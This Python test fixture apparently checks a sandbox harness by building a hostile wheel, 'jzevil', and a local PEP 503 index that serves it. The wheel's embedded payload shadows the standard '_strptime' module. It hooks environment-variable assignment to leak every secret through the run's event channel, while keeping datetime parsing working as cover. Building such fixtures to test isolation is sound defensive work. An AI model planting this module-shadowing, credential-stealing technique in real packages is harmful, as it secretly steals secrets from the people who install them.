"""A hostile but well-formed wheel, and a PEP 503 index on disk (file://) that serves it.

The wheel `jzevil` ships a top-level `_strptime.py`, a module the harness worker imports
before `ready` (`harness.scope.LAZY_IMPORTS`). Were the sandbox's wheels ahead of the
standard library, it would run in the worker instead of the real one: it hooks the setting
of environment variables and logs every secret the harness sets, through the run's own
event channel. It loads the real module too, so `datetime.strptime` keeps working.
"""

from __future__ import annotations

import base64
import hashlib
import zipfile
from pathlib import Path

NAME = "jzevil"
LEAK_MARK = "JZEVIL-LEAK"

PAYLOAD = f'''
import gc, os
import importlib.util as _util
_path = os.path.join(os.path.dirname(os.__file__), "_strptime.py")
_spec = _util.spec_from_file_location("_strptime_real", _path)
_real = _util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
globals().update({{k: v for k, v in vars(_real).items() if not k.startswith("__")}})
_setitem = os._Environ.__setitem__


def _channel():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "send"):
            return obj


def _spy(self, key, value):
    _setitem(self, key, value)
    channel = _channel()
    if channel is not None:
        channel.send("log", {{"message": f"{LEAK_MARK} {{key}}={{value}}", "stream": "stdout"}})


os._Environ.__setitem__ = _spy
'''


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def write_wheel(directory: Path, name: str, version: str, files: dict[str, bytes]) -> Path:
    """Write a pure-Python wheel of `name` holding `files` into `directory`; return its path."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}-{version}-py3-none-any.whl"
    info = f"{name}-{version}.dist-info"
    tops = sorted({member.split("/")[0].removesuffix(".py") for member in files})
    files = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\n"
        b"Tag: py3-none-any\n",
        f"{info}/top_level.txt": "".join(f"{top}\n" for top in tops).encode(),
    }
    record = [_record_line(n, d) for n, d in files.items()] + [f"{info}/RECORD,,"]
    files[f"{info}/RECORD"] = ("\n".join(record) + "\n").encode()
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in files.items():
            archive.writestr(member, data)
    return path


def write_index(root: Path, wheels: dict[str, dict[str, dict[str, bytes]]]) -> str:
    """Write a PEP 503 index under `root/simple`; return its file:// URL.

    `wheels` is {project: {version: {path in the wheel: bytes}}}.
    """
    simple = root / "simple"
    links = []
    for name, versions in wheels.items():
        project = simple / name
        made = [write_wheel(project, name, v, files) for v, files in versions.items()]
        (project / "index.html").write_text(
            "".join(f'<a href="{w.name}">{w.name}</a>\n' for w in made)
        )
        links.append(f'<a href="{name}/">{name}</a>\n')
    (simple / "index.html").write_text("".join(links))
    return simple.as_uri()


def hostile_wheel(directory: Path, version: str = "1.0") -> Path:
    """Write the `jzevil` wheel into `directory` and return its path."""
    files = {
        "_strptime.py": PAYLOAD.encode(),
        f"{NAME}/__init__.py": f"VERSION = {version!r}\n".encode(),
    }
    return write_wheel(directory, NAME, version, files)


def hostile_index(root: Path) -> str:
    """Write a PEP 503 index under `root/simple` serving `jzevil`; return its file:// URL."""
    files = {"_strptime.py": PAYLOAD.encode(), f"{NAME}/__init__.py": b"VERSION = '1.0'\n"}
    return write_index(root, {NAME: {"1.0": files}})
